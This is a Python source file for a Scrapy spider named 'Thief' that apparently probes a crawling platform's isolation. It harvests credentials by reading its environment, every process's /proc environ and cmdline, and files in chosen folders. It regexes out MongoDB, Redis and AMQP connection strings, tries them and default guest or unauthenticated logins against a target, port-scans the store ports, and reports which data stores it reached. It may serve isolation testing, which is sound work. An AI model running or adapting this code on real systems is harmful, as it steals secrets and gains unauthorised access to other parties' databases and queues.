"""A deployed spider that looks for the stores: in its environment, in those of all processes, in every file that it
may read; and then tries what it has found, and what anybody would try.
"""

from __future__ import annotations

import os
import re
import socket
from collections.abc import AsyncIterator, Iterable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import amqp
import pymongo
import redis
import scrapy

URL = re.compile(rb"(?:mongodb|rediss?|amqps?)://[^\s'\",}\\\\\0]+")
PORTS = {27017: "mongodb", 6379: "redis", 5672: "amqp"}
LONG = 1 << 20


def texts(folders: list[str]) -> Iterator[bytes]:
    yield repr(dict(os.environ)).encode()
    processes = (process for process in Path("/proc").iterdir() if process.name.isdigit())
    files = [process / file for process in processes for file in ("environ", "cmdline")]
    for folder in folders:
        files += [Path(place, name) for place, _, names in os.walk(folder) for name in names]
    for file in files:
        with suppress(OSError), file.open("rb") as content:
            yield content.read(LONG)


def take(urls: Iterable[bytes]) -> set[str]:
    """What these give of what is the platform's."""
    got: set[str] = set()
    for url in {url.decode() for url in urls}:
        with suppress(Exception):
            if url.startswith("mongodb"):
                with pymongo.MongoClient(url, serverSelectionTimeoutMS=3000) as client:
                    for name in ("jobs", "keys"):
                        with suppress(pymongo.errors.OperationFailure):
                            got |= {f"mongodb: {name}"} if client["discoverybot"][name].find_one() else set()
            elif url.startswith("redis"):
                with redis.Redis.from_url(url, socket_timeout=3, socket_connect_timeout=3) as client:
                    got |= {"redis"} if client.keys("*") else set()
            else:
                user, password, host = re.fullmatch(r"amqp://(.*):(.*)@(.*?)//", url).groups()
                with amqp.Connection(f"{host}:5672", userid=user, password=password, connect_timeout=3):
                    got.add("amqp")
    return got


class Thief(scrapy.Spider):
    name = "thief"

    def __init__(self, address: str, folders: str) -> None:
        super().__init__()
        self.address = address
        self.folders = folders.split()

    async def start(self) -> AsyncIterator[dict[str, Any]]:
        everything = list(texts(self.folders))
        found = {url for text in everything for url in URL.findall(text)}
        found = {url for url in found if b"@" in url}
        anybody = {f"{kind}://{user}{self.address}" for kind, user in (("mongodb", ""), ("redis", ""))}
        anybody.add(f"amqp://guest:guest@{self.address}//")
        connected = []
        for port in PORTS:
            with suppress(OSError):
                socket.create_connection((self.address, port), 3).close()
                connected.append(port)
        got = take({*found, *(url.encode() for url in anybody)})
        yield {
            "uid": os.getuid(), "found": sorted(map(repr, found)), "got": sorted(got), "connected": connected,
            "read": len(everything),
        }  # fmt: skip
